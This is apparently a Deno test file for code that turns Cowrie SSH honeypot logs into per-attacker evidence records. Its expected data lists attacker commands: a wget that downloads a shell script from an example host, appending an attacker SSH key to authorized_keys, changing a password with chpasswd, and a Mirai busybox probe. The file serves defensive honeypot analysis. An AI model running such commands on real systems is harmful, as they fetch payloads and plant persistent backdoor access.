import assert from "node:assert/strict";
import { itemsOf, type SessionEvidence } from "../../src/session_evidence.ts";
import { recordsOf, sceneLines, told } from "./session_rig.ts";

const PAYLOAD = "7d73a2e171e0e9bdf9105b2156819116b23f25bbd6148c700007d91f901b7274";
const UPLOAD = "b5c1fb2efc6d6b4674c2fdcc48ce01b43a3b7c03763c0c3355de0099ee0f8c73";
const KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIMeMxZFltiDzdhPsZ9X3ZHpJ8YxNDgqzD2Yu570T1SsR";
const GO = "hassh 0a07365cc01fa9fc82608ba4019af499";
const LIBSSH = "hassh 4c94058d5e9e31659879f79fd5b46084";

/** What the attackers of the scene did: sessions, logged in, longest; then each thing and how often. */
const TRUTH = {
  "198.51.100.30": ["1 0 3164", `${GO} 1`, "version SSH-2.0-Go 1"],
  "198.51.100.32": [
    "1 1 6587",
    ...[`${LIBSSH} 1`, "version SSH-2.0-libssh_0.9.6 1"],
    "command uname -a 2",
    "command echo *** | chpasswd 1",
    "command ls [1,2] 1",
    `command mkdir -p ~/.ssh && echo "ssh-ed25519 ${KEY} mdrf" >> ~/.ssh/authorized_keys 1`,
    "command wget http://203.0.113.9/x.sh 1",
    `payload ${PAYLOAD} 2`,
    "url http://203.0.113.10/gone 1",
    "key SHA256:JA56jI9yzffWTlN2N9I3J1l3ndJuq7kqzPyrSzUcoCk 1",
  ],
  "198.51.100.35": ["1 1 18836", "command busybox MIRAI 1", "command exit 1"],
  "198.51.100.37": [
    ...["1 1 568", `${GO} 1`, "version SSH-2.0-Go 1"],
    ...["tunnel 203.0.113.77:25 2", "tunnel mail.example.org:443 1"],
  ],
  "198.51.100.38": [
    ...["2 1 447", `${LIBSSH} 2`, "version SSH-2.0-paramiko_5.1.0 2", `payload ${UPLOAD} 1`],
  ],
  "198.51.100.39": ["1 0 0", `${GO} 1`, "version SSH-2.0-ZGrab ZGrab SSH Survey 1"],
  "2001:db8::9": ["1 0 3161", `${GO} 1`, "version SSH-2.0-Go 1"],
};

/** Without in which report each came first. */
const itemsIn = (session: SessionEvidence | undefined) =>
  session?.items.map(({ since: _, urls, ...item }) => ({
    ...item,
    urls: urls?.map(({ since: _, ...url }) => url),
  }));

for (const [name, lines] of Object.entries(sceneLines)) {
  Deno.test(`sessions of a Cowrie give exactly what their attackers did (${name})`, async () => {
    assert.deepEqual(told(await recordsOf(lines)), TRUTH);
  });

  Deno.test(`sessions of a Cowrie count once, in any order and across snapshots (${name})`, async () => {
    // Each line stands twice, at places that have nothing to do with its own.
    const mixed = [...lines, ...lines].map((line, at) => [at * 7919 % 1009, line] as const)
      .sort(([one], [other]) => one - other).map(([, line]) => line);
    assert.notDeepEqual(mixed.slice(0, lines.length), lines);
    const plain = await recordsOf(lines);
    for (const snapshots of [[], [20], [30, 60, 90]]) {
      const records = await recordsOf(mixed, snapshots);
      assert.deepEqual(told(records), TRUTH);
      for (const [source, { session }] of records) {
        assert.deepEqual(itemsIn(session), itemsIn(plain.get(source)?.session));
      }
    }
  });
}

Deno.test("a payload keeps its names and addresses, and none of their secrets", async () => {
  const { session } = (await recordsOf(sceneLines.wazuh)).get("198.51.100.32")!;
  const [payload] = itemsOf(session!, "payload");
  const { names, urls, ways } = payload!;
  assert.deepEqual([names, ways], [["x.sh", "y"], ["download"]]);
  assert.deepEqual(urls?.map(({ url }) => url), [
    "http://203.0.113.9/x.sh",
    "http://203.0.113.9/y?token=***",
  ]);
  const all = JSON.stringify([...(await recordsOf(sceneLines.wazuh)).values()]);
  assert.doesNotMatch(all, /secret/);
});

Deno.test("a source is published that got into the decoy, whatever its attempts, and no mere visitor", async () => {
  const records = await recordsOf(sceneLines.wazuh);
  const { attempts, reports } = records.get("198.51.100.39")!;
  assert.deepEqual([attempts, reports], [0, 0]);
  const command = sceneLines.wazuh.filter((line) => line.includes('"input":"busybox'));
  const [only] = (await recordsOf(command)).values();
  assert.deepEqual([only?.attempts, only?.reports], [0, 1]);
});
